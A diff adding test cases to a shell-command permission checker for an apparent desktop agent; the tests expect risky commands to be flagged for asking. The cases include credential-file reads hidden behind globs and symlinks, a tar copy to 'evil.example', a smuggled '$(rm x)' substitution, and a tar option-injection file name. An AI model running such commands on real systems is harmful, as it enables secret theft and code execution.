@@ -15,9 +15,13 @@ let home: string
 let since: number
 beforeEach(() => {
   home = mkdtempSync(join(tmpdir(), 'effects-'))
-  for (const folder of ['.ssh', '.aws', '.local/share/deskhand', 'docs', 'other'])
+  for (const folder of ['.ssh', '.aws', 'keys', '.local/share/deskhand', 'docs', 'other'])
     mkdirSync(join(home, folder), { recursive: true })
-  for (const file of ['.ssh/id_rsa', '.aws/credentials', '.bashrc', '.local/share/deskhand/rules.json', 'docs/canary.txt', 'other/canary.txt', 'old.sh'])
+  mkdirSync(join(home, 'new/docs'), { recursive: true })
+  // A link whose `..` is another folder than the one that it lies in.
+  mkdirSync(join(home, '.aws/deep'))
+  symlinkSync('../.aws/deep', join(home, 'docs/link'))
+  for (const file of ['.aws/plain', 'keys/server.pem', 'new/docs/canary.txt', '.ssh/id_rsa', '.aws/credentials', '.bashrc', '.local/share/deskhand/rules.json', 'docs/canary.txt', 'other/canary.txt', 'old.sh'])
     writeFileSync(join(home, file), 'x')
   since = Date.now() + 5
 }) // prettier-ignore
@@ -147,6 +151,34 @@ describe('what is allowed of commands in general does not cover', () => {
     'cp $x/a b',
     'cp ~-/a b',
     'cp d{o..o}cs/a b',
+    // Words that the shell makes say something else than they are written.
+    'find docs {-delete,-print}',
+    'sort {-o,docs/canary.txt} x',
+    'uniq {x,docs/canary.txt}',
+    'uniq d*',
+    'printf {-v,PATH} docs; ls',
+    'test -? x',
+    '[ {-v,x} ]',
+    'git diff {--no-index,--output=docs/canary.txt} a b',
+    'zip {-T,-TT,"sh x #"} a.zip b',
+    'cat docs/c[x"]"a]nary.txt',
+    'cat docs/{x},canary.txt}',
+    'sort -*',
+    'cat {1..3}',
+    'ls !x',
+    // Its value is known only to the shell.
+    `echo -v; test $_ 'a[$(rm x)]'`,
+    'printf $PWD x',
+    // What is asked for its version may read what to do.
+    'sh -V < x',
+    'cat x | dash -V',
+    'tclsh --version < x',
+    `xdg-user-dir 'A};x;echo \${B'`,
+    `jq -n 'import "config" as $d {search:"./x"}; $d'`,
+    'tar cf evil.example:/x docs',
+    'yarn list',
+    'Rscript old.R',
+    'sort --files0-from=x',
   ])('deleting and sending: %s', (line) => {
     const { decision, categories } = command(line)
     expect([decision, categories.includes('delete') || categories.includes('send')]).toEqual(['ask', true])
@@ -173,6 +205,12 @@ describe('what is allowed of commands in general does not cover', () => {
         'cd nowhere; echo x > docs/canary.txt',
         'false && cd other; cd docs; cd nowhere; echo x > ../docs/canary.txt',
         'echo x 1<> docs/canary.txt',
+        'cd nowhere; cd docs; echo x > canary.txt',
+        'cp -r other/. docs',
+        'cp -r other/../other/. docs',
+        'cp -a new/docs .',
+        'mkdir -p "~"; cp other/canary.txt "~/../docs"',
+        "cp other/canary.txt '$HOME/../docs/canary.txt'",
       ],
     ],
     [
@@ -196,6 +234,14 @@ describe('what is allowed of commands in general does not cover', () => {
         'gpg --export-secret-keys',
         'secret-tool lookup a b',
         'gh auth token',
+        'cat docs/link/../plain',
+        'cat keys/server.p[[:lower:]]m',
+        'cat ${HOME}/keys/server.{pem,x}',
+        `cat keys/{x"}",server.pem}`,
+        'jq -R {.,.aws/credentials}',
+        'cat /proc/self/cwd/plain',
+        'grep -rh x keys',
+        'tar cf x.tar keys',
       ],
     ],
     [
@@ -215,6 +261,10 @@ describe('what is allowed of commands in general does not cover', () => {
         '7z x a.zip -o.',
         'echo x >> .config/user-dirs.dirs',
         'gsettings set a b c',
+        'cp a docs/link/../../.config/autostart/x',
+        'echo x >> old.sh',
+        'cat a | tee -a old.sh',
+        'echo x > /usr/local/bin/x',
       ],
     ],
   ])('%s', (category, lines) => {
@@ -224,6 +274,13 @@ describe('what is allowed of commands in general does not cover', () => {
         'ask',
         expect.arrayContaining([category]),
       ])
+  })
+
+  test('a program that others have made, by its file', () => {
+    mkdirSync(join(home, 'node_modules/x'), { recursive: true })
+    writeFileSync(join(home, 'node_modules/x/cli.js'), 'x')
+    since = Date.now() + 5
+    expect(command('node node_modules/x/cli.js docs').decision).toBe('ask')
   })
 
   test('a script that the run can have made, and one that is not alone', () => {
@@ -285,9 +342,22 @@ test('a script is asked about where what lies beside it may be of the run', () =
   expect(command('python3 docs/old.py').decision).toBe('ask')
 })
 
+test('git in a repository that is told in another way is looked at there', () => {
+  for (const name of ['evil', 'status']) {
+    mkdirSync(join(home, name, 'objects'), { recursive: true })
+    writeFileSync(join(home, name, 'HEAD'), 'x')
+    writeFileSync(join(home, name, 'config'), '[core]\nfsmonitor = x\n')
+  }
+  since = Date.now() + 5
+  for (const line of ['git -C ev?l status', 'git --no-pager -C evil log', 'git -p -C status status'])
+    expect([line, command(line).decision]).toEqual([line, 'ask'])
+})
+
 test('a wildcard is asked about where a file is called as an option is', () => {
-  expect(command('tar czf a.tgz *').decision).toBe('allow')
+  expect(command('sort *', [])).toMatchObject({ decision: 'allow' })
+  expect(command('cp o* new').decision).toBe('allow')
   writeFileSync(join(home, '--checkpoint-action=exec=x'), '')
+  expect(command('sort *', []).decision).toBe('ask')
   expect(command('tar czf a.tgz *').decision).toBe('ask')
 })
 
@@ -295,9 +365,9 @@ describe('is not asked about at all', () => {
   test.each([
     'ls ~', 'find ~ -name "*.txt"', 'cd docs && ls -la | wc -l', 'wc -l < canary.txt', 'echo a 2>&1 | cat', 'python3 --version', 'ls docs/*.txt',
     'cat docs/canary.txt | sort | uniq -c', 'sort run.txt | head -n 3', 'jq .a data.json', `jq -r '.[] | .b' data.json`, 'cat data.json | jq .',
-    'grep -n .bashrc docs/canary.txt', 'grep -rn x docs', '[ -f a ] && echo yes || echo no', 'test -f a && cat a', 'ls docs 2>/dev/null', 'echo "$HOME"',
+    'grep -n .bashrc docs/canary.txt', 'grep -rn x other', '[ -f a ] && echo yes || echo no', 'test -f a && cat a', 'ls docs 2>/dev/null', 'echo "$HOME"',
     'date -d tomorrow +%A', 'tr a b < docs/canary.txt', 'cd ~/docs; pwd', 'printf "%s\\n" a b', 'ls -1 | wc -l', 'echo "a # b"', 'ps aux | grep x',
-    'find docs -type f | wc -l', 'df -h', 'sleep 1 && date', 'ip addr', 'ss -tln', 'git --version',
+    'find other -type f | wc -l', 'basename docs/a.txt .txt', 'ls docs/{canary,x}.txt', 'cat ~/docs/canary.txt', 'sed -n 2p docs/canary.txt', 'df -h', 'sleep 1 && date', 'ip addr', 'ss -tln', 'git --version',
   ])('%s', (line) => {
     expect(command(line, [])).toMatchObject({ decision: 'allow', categories: [] })
   })
